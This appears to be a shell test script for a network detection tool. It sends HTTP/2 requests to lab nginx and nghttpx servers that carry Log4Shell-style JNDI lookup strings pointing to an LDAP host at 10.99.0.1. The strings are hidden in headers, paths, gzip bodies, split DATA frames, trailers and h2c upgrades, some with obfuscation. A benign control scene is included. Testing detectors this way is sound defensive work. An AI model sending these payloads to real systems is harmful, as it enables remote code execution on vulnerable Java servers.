# SPDX-License-Identifier: GPL-2.0-or-later
# HTTP/2 in clear: curl and nghttp against nginx (prior knowledge) and nghttpx (Upgrade: h2c).

http2_up() {
    mkdir -p "$WORK/nginx2/html" "$WORK/nginx2/logs"
    echo hello >"$WORK/nginx2/html/index.html"
    sed "s|@WORK@|$WORK|g" "$here/srv/nginx-http2.conf" >"$WORK/nginx2/nginx.conf"
    serve in 8080 nginx -e "$WORK/nginx2/logs/err.log" -c "$WORK/nginx2/nginx.conf"
    serve in 8082 nghttpx --conf=/dev/null --single-process --workers=1 --no-ocsp -f '10.99.0.2,8082;no-tls' \
        -b '127.0.0.1,8081' --errorlog-file="$WORK/nginx2/logs/nghttpx.log" --accesslog-file=/dev/null
}

h2() { curl_out --http2-prior-knowledge "$@"; }
nghttp_out() { timeout 10 $OUT nghttp --null-out "$@"; }

# Two uploads at once, whose DATA frames of 16 KB alternate: the text lies where one frame ends and the next begins.
interleaved() {
    { head -c 16370 /dev/zero | tr '\0' x; printf '%s' "$1"; head -c 90 /dev/zero | tr '\0' y; } >"$WORK/body"
    nghttp_out -d "$WORK/body" http://10.99.0.2:8080/one http://10.99.0.2:8080/two
}

# Two writes with a pause between them become two DATA frames.
split() {
    { printf '%s' "$1"; sleep 0.2; printf '%s' "$2"; } | h2 -T - http://10.99.0.2:8080/up
}

h2_gzip() {
    printf '%s' "$1" | gzip -n |
        h2 -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' --data-binary @- http://10.99.0.2:8080/api
}

# The same header twice: the second time it is a reference to the first.
repeated() { nghttp_out -H "user-agent: $1" http://10.99.0.2:8080/one http://10.99.0.2:8080/two; }

# The first request asks for the upgrade, the second is HTTP/2.
upgraded() {
    timeout 10 $OUT curl -s --http2 -o /dev/null -A 'first' http://10.99.0.2:8082/one \
        --next -s --http2 -o /dev/null -A "$1" http://10.99.0.2:8082/two
}

with_trailer() { printf 'body' >"$WORK/body"; nghttp_out -d "$WORK/body" --trailer="x-checksum: $1" http://10.99.0.2:8082/up; }

benign_http2() {
    h2 -A 'curl/${version}' -H 'X-Template: ${user.name:-nobody}' 'http://10.99.0.2:8080/a?tpl=$%7Bname%7D'
    h2 --data-binary @"$here/srv/template.js" -H 'Content-Type: text/javascript' http://10.99.0.2:8080/save
    h2_gzip '{"text":"jndi and ldap, ${name} and ${id}"}'
    repeated 'agent ${one} ${two}'
    interleaved '${one} jndi:ldap://host/x ${two}'
    split 'a=${jndi' '=1&b=:ldap://host/x}'
    with_trailer '${sum}'
    upgraded 'agent ${two}'
    nghttp_out --padding=100 --continuation -H 'x-app: ${app}' http://10.99.0.2:8080/
}

http2_names="http2-header http2-path http2-continuation http2-body http2-gzip http2-interleaved http2-split http2-repeated
    http2-trailer http2-upgrade benign-http2"
# shellcheck disable=SC2086
if wanted $http2_names; then
    http2_up
    scene http2-header h2 -A 'Mozilla/5.0 ${jndi:ldap://10.99.0.1:1389/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa}' http://10.99.0.2:8080/
    scene http2-path h2 'http://10.99.0.2:8080/search?q=$%7B$%7Blower:j%7Dndi:ldap://10.99.0.1:1389/path%7D'
    scene http2-continuation nghttp_out --padding=100 --continuation -H 'x-app: ${jndi:ldap://10.99.0.1:1389/continuation}' \
        http://10.99.0.2:8080/
    scene http2-body h2 -H 'Content-Type: application/json' -d '{"user":"\u0024{jndi:ldap://10.99.0.1:1389/body}"}' \
        http://10.99.0.2:8080/api
    scene http2-gzip h2_gzip '{"name":"${jndi:ldap://10.99.0.1:1389/gzip}"}'
    scene http2-interleaved interleaved '${jndi:ldap://10.99.0.1:1389/interleaved}'
    scene http2-split split 'user=${jndi:ldap:' '//10.99.0.1:1389/split}&go=1'
    scene http2-repeated repeated '${jndi:dns://10.99.0.1/repeated}'
    scene http2-trailer with_trailer '${jndi:ldap://10.99.0.1:1389/trailer}'
    scene http2-upgrade upgraded '${jndi:ldap://10.99.0.1:1389/upgrade}'
    scene benign-http2 benign_http2
    stop_servers
fi
